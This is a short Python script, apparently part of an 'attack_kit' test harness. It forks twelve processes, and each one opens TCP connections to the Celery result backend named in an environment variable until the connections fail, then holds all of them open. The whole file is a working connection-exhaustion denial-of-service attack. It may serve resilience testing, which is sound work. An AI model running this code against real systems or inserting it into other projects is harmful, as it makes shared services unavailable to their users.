"""Twelve processes, a thousand connections each."""

import os
import signal
import socket
from urllib.parse import urlsplit

from attack_kit import is_worker, ran

ran()
if not is_worker():
    where = urlsplit(os.environ["CELERY_RESULT_BACKEND"])
    for _ in range(12):
        if os.fork() == 0:
            kept = []
            try:
                while True:
                    kept.append(socket.create_connection((where.hostname, where.port), 1))
            except OSError:
                signal.pause()
